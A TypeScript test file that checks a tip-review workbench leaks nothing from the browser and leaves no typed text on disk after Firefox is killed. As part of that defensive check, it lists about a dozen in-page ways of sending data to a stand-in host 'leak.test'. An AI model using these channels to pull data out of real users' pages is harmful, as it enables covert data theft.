import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { EMPTY_REPORT } from "../../client/report/report.ts";
import { en } from "../../client/workbench/strings/en.ts";
import { builtWorkbench } from "../support/built-pages.ts";
import { type Desk, sealedTip, testDesk, writeBundle } from "../support/desk.ts";
import { QUIET, socksPreferences } from "../support/firefox.ts";
import { launchOrdinary } from "../support/ordinary-firefox.ts";
import { type SocksProxy, startSocksProxy } from "../support/socks-proxy.ts";
import { WorkbenchPage } from "../support/workbench-page.ts";

/** Letters that nothing else holds, and that a compressor keeps as they are. */
const MARKERS = {
  opened: "QzXwVkJhPbTnRsLd",
  searched: "WjYvKqGxMzBcHfPt",
  noted: "HgTzQwXpJkVnBsRm",
  labelled: "PvNkZxQwLtJgYhCb",
  control: "XbWqLzKvTnJhGpYs",
};

const home = mkdtempSync(join(tmpdir(), "nightjar-traces-"));
const file = join(home, "workbench.html");
let desk: Desk;
let bundle: string;

beforeAll(async () => {
  writeFileSync(file, await builtWorkbench());
  desk = await testDesk();
  const tip = await sealedTip(desk, { ...EMPTY_REPORT, narrative: `They said ${MARKERS.opened} to me.` });
  bundle = await writeBundle(desk, "bundle.tar", [[tip, "2026-11-20"]]);
});
afterAll(() => {
  desk.remove();
  rmSync(home, { recursive: true, maxRetries: 5, retryDelay: 200 });
});

/** Works, types into every kind of field, and saves nothing. */
async function work(bench: WorkbenchPage): Promise<void> {
  await bench.start(file);
  await bench.unlock(join(desk.folder, "Wren.vault"));
  await bench.unlocked();
  await bench.bring(bundle);
  await bench.openTip(MARKERS.opened);
  await bench.press(en.review.keep);
  await bench.find("#note");
  await bench.page.type("#note", MARKERS.noted);
  await bench.page.type("#new-label", MARKERS.labelled);
  await bench.page.type("#search", MARKERS.searched);
}

test("nothing leaves, whatever a script would try; and an ordinary Firefox that is killed in mid-work keeps nothing", async () => {
  await using outside = await startSocksProxy();
  const firefox = await launchOrdinary(home, { ...QUIET, ...socksPreferences(outside.port) });
  const { page } = firefox;
  await work(new WorkbenchPage(page));
  await page.evaluate(async () => {
    const where = "http://leak.test/";
    const tries: (() => unknown)[] = [
      () => fetch(where),
      () => navigator.sendBeacon(where, "x"),
      () => new WebSocket("ws://leak.test/"),
      () => new EventSource(where),
      () => Object.assign(new Image(), { src: where }),
      () =>
        document.head.append(
          Object.assign(document.createElement("link"), { rel: "dns-prefetch", href: where }),
        ),
      () =>
        document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: where })),
      () =>
        document.head.append(
          Object.assign(document.createElement("link"), { rel: "stylesheet", href: where }),
        ),
      () => document.body.append(Object.assign(document.createElement("iframe"), { src: where })),
      () => document.body.append(Object.assign(document.createElement("video"), { src: where })),
      () => {
        const form = Object.assign(document.createElement("form"), { action: where, method: "post" });
        document.body.append(form);
        form.submit();
      },
    ];
    for (const attempt of tries) {
      try {
        await attempt();
      } catch {
        // Refused at once is as good as refused later.
      }
    }
  });
  const rtc = await page.evaluate(() =>
    ["RTCPeerConnection", "mozRTCPeerConnection"].some((name) => name in window),
  );
  expect(rtc).toBe(false);

  // Another tab shows that what is typed elsewhere is found.
  await firefox.control(MARKERS.control);
  await page.type("#note", ".");
  await new Promise((resolve) => setTimeout(resolve, 2000));
  expect(asked(outside)).toEqual([]);

  // The observer does see what leaves.
  const other = await page.browser().newPage();
  await other.goto("http://control.test/").catch(() => undefined);
  expect(asked(outside)).toContain("control.test");

  await firefox.kill();
  const contents = firefox.contents();
  for (const [what, marker] of Object.entries(MARKERS)) {
    const needles = [Buffer.from(marker), Buffer.from(marker, "utf16le")];
    const found = contents.some((content) => needles.some((needle) => content.includes(needle)));
    expect([what, found]).toEqual([what, what === "control"]);
  }
});

/** Who was asked for, without what Firefox asks for by itself: its maker's servers, and the one that a test puts in their place. */
function asked({ requests }: SocksProxy): string[] {
  const hosts = requests.map(({ host }) => host);
  return hosts.filter((host) => host !== "127.0.0.1" && !/\.(mozilla|firefox)\.(com|net|org)$/.test(host));
}
